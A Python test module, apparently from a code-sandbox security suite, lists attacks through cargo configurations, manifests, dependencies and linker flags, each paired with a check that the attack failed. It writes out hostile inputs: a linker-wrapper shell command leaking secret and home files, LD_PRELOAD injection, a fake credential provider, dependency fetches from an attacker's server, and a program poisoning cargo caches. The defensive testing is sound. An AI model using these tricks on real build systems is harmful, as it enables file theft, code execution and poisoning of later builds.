"""Attacks through cargo's own files: manifests, configurations, dependencies, flags."""
# ruff: noqa: E501  (programs in another language stand in these lines)

from tests.attacks.case import HELLO, MANIFEST, Case, Check, Story, both, program, unseen
from tests.attacks.network import unheard
from tests.attacks.world import World


def untouched(name: str) -> Check:
    """Check that no file of this name appeared outside."""

    def held(world: World, _story: Story) -> None:
        found = [path for path in world.outside.glob(f"{name}*") if path.exists()]
        assert not found

    return held


def _nothing_ran(world: World, _story: Story) -> None:
    assert not list(world.outside.glob("ran-*")), "a program of somebody else's was run"


def _folder_still(name: str) -> Check:
    def held(world: World, _story: Story) -> None:
        # Only the attack has a reason to touch it after the server's start.
        assert (world.outside / name).stat().st_mtime < world.watch.began

    return held


def _honest_afterwards(world: World, _story: Story) -> None:
    events = world.honest()
    assert [event["status"] for event in events if event["type"] == "finished"] == ["ok"]
    assert "poison" not in str(events)


_STOLEN = 'fn main() { println!("{}", stolen::HELD); }'
_CONFIG = "[build]\nrustflags = []\n"
_LEAK = "cat @OUT@/secret @HOME_FILE@ >&2; exit 1"


def _cargo_case(id_: str, tries: str, held: Check, *, main: str = HELLO, **more: str) -> Case:
    return Case(id_, tries, held, main, begun=False, **more)  # type: ignore[arg-type]  # options of several types


CASES = (
    _cargo_case(
        "config-wrapper",
        "name a program from elsewhere as rustc-wrapper",
        _nothing_ran,
        config='[build]\nrustc-wrapper = "@OUT@/fake-rustc"\n',
        command="cargo build",
    ),
    _cargo_case(
        "config-rustc",
        "name another compiler",
        _nothing_ran,
        config='[build]\nrustc = "@OUT@/fake-rustc"\nrustc-workspace-wrapper = "@OUT@/fake-rustc"\n',
        command="cargo build",
    ),
    _cargo_case(
        "config-linker",
        "make the linker's driver run a shell command",
        unseen("file", "home"),
        config=f'[build]\nrustflags = ["-C", "link-arg=-wrapper", "-C", "link-arg=/bin/sh,-c,{_LEAK}"]\n',
        command="cargo build",
    ),
    _cargo_case(
        "config-runner",
        "name a runner that prints a file instead of the program",
        unseen("file"),
        config='[target.\'cfg(all())\']\nrunner = ["/bin/cat", "@OUT@/secret"]\n',
    ),
    _cargo_case(
        "config-alias",
        "redefine an offered command with an alias",
        unseen("library"),
        config='[alias]\nb = "run --manifest-path @OUT@/stolen/Cargo.toml"\nbuild = "run --manifest-path @OUT@/stolen/Cargo.toml"\n',
        command="cargo b",
    ),
    _cargo_case(
        "config-env",
        "set variables that make the compiler and the linker write elsewhere",
        both(_folder_still("link"), _honest_afterwards),
        config='[env]\nTMPDIR = { value = "@OUT@/link", force = true }\nLD_PRELOAD = "/nowhere/poison.so"\n',
        command="cargo build",
    ),
    _cargo_case(
        "config-bootstrap",
        "unlock unstable flags with RUSTC_BOOTSTRAP and make the compiler write elsewhere",
        untouched("mir"),
        config='[env]\nRUSTC_BOOTSTRAP = "1"\n[build]\nrustflags = ["-Zdump-mir=all", "-Zdump-mir-dir=@OUT@/mir"]\n',
        command="cargo build",
    ),
    _cargo_case(
        "config-rustflags",
        "make the compiler write its output elsewhere",
        both(untouched("emitted"), untouched("incremental")),
        config='[build]\nrustflags = ["--emit=obj=@OUT@/emitted", "-Cincremental=@OUT@/incremental"]\n',
        command="cargo build",
    ),
    _cargo_case(
        "config-target-dir",
        "build into a folder elsewhere",
        untouched("target"),
        config='[build]\ntarget-dir = "@OUT@/target"\n',
        command="cargo build",
    ),
    _cargo_case(
        "config-source",
        "take dependencies from a folder elsewhere, with [source]",
        unseen("vendor"),
        main=_STOLEN,
        manifest=MANIFEST + '[dependencies]\nstolen = "1"\n',
        config='[source.crates-io]\nreplace-with = "here"\n[source.here]\ndirectory = "@OUT@/vendor"\n',
    ),
    _cargo_case(
        "config-include",
        "include a configuration from elsewhere",
        unseen("include"),
        main='fn main() { println!("{:?} {:?}", option_env!("HELD"), std::env::var("HELD")); }',
        config='include = ["@OUT@/include.toml"]\n[unstable]\nconfig-include = true\n',
    ),
    _cargo_case(
        "config-credentials",
        "make cargo run a program to get credentials",
        both(_nothing_ran, unheard("GET ")),
        manifest=MANIFEST + '[dependencies]\nstolen = { version = "1", registry = "evil" }\n',
        config='[registries.evil]\nindex = "sparse+http://127.0.0.1:@PORT@/"\ncredential-provider = ["@OUT@/fake-rustc"]\n'
        "[net]\noffline = false\ngit-fetch-with-cli = true\n",
        command="cargo build",
    ),
    _cargo_case(
        "dependency-path",
        "depend on a crate elsewhere on the machine",
        unseen("library"),
        main=_STOLEN,
        manifest=MANIFEST + '[dependencies]\nstolen = { path = "@OUT@/stolen" }\n',
    ),
    _cargo_case(
        "dependency-git",
        "depend on a repository elsewhere on the machine",
        unseen("library"),
        main=_STOLEN,
        manifest=MANIFEST + '[dependencies]\nstolen = { git = "file://@OUT@/repository" }\n',
        config="[net]\noffline = false\ngit-fetch-with-cli = true\n",
    ),
    _cargo_case(
        "dependency-network",
        "make cargo fetch from the attacker's server, as a registry and as a repository",
        unheard("connected"),
        manifest=MANIFEST + '[dependencies]\nstolen = { git = "http://127.0.0.1:@PORT@/repository.git" }\n',
        config="[net]\noffline = false\n",
        command="cargo build",
    ),
    _cargo_case(
        "dependency-patch",
        "replace a dependency with a crate elsewhere, with [patch]",
        unseen("library"),
        main=_STOLEN,
        manifest=MANIFEST + '[dependencies]\nstolen = "1"\n[patch.crates-io]\nstolen = { path = "@OUT@/stolen" }\n',
    ),
    _cargo_case(
        "workspace-above",
        "belong to a workspace elsewhere, whose manifest cargo then quotes",
        unseen("workspace"),
        manifest=MANIFEST.replace("build = false", 'build = false\nworkspace = "@OUT@/above"'),
        command="cargo build",
    ),
    _cargo_case(
        "workspace-members",
        "make crates elsewhere members of its own workspace",
        untouched("stolen/Cargo.lock"),
        manifest=MANIFEST + '[workspace]\nmembers = ["@OUT@/stolen"]\n',
        main=HELLO,
        command="cargo build --workspace -v",
    ),
    _cargo_case(
        "link-response-file",
        "make the linker read a file as arguments and quote them",
        unseen("file"),
        command='cargo rustc -- -C "link-arg=-Wl,@@OUT@/words"',
    ),
    _cargo_case(
        "link-embed",
        "make the linker embed a file from elsewhere in the program, and print it",
        unseen("file"),
        main="""
        extern "C" { static _binary_@SYMBOL@_start: [u8; 29]; }
        fn main() { println!("{}", String::from_utf8_lossy(unsafe { &_binary_@SYMBOL@_start })); }
        """,
        config='[build]\nrustflags = ["-Clink-arg=-Wl,--format=binary,@OUT@/secret,--format=default"]\n',
    ),
    _cargo_case(
        "link-output",
        "make the linker write elsewhere",
        untouched("linked"),
        command='cargo rustc -- -C "link-args=-o @OUT@/linked"',
    ),
    Case(
        "poison-seed",
        "change what cargo has cached about the compiler, for the next run",
        _honest_afterwards,
        program("""
            for path in ["target/.rustc_info.json", "../home/.cargo/.global-cache", "../home/.cargo/config.toml",
                         "../../seed-1.96/blog_os/target/.rustc_info.json"] {
                fs::create_dir_all(Path::new(path).parent().unwrap());
                println!("{:?}", fs::write(path, "poison"));
            }
            if let Ok(home) = std::env::var("CARGO_HOME") { println!("{:?}", fs::write(format!("{home}/config.toml"), "poison")); }
            println!("{:?}", fs::write("/playground/.cargo/config.toml", "poison"));
            println!("{:?}", fs::write("../.cargo/config.toml", "poison"));
            fs::create_dir("../.cargo");
            println!("{:?}", fs::write("../.cargo/config.toml", "poison"));
            fs::create_dir("../../.cargo");
            println!("{:?}", fs::write("../../.cargo/config.toml", "poison"));"""),
    ),
)
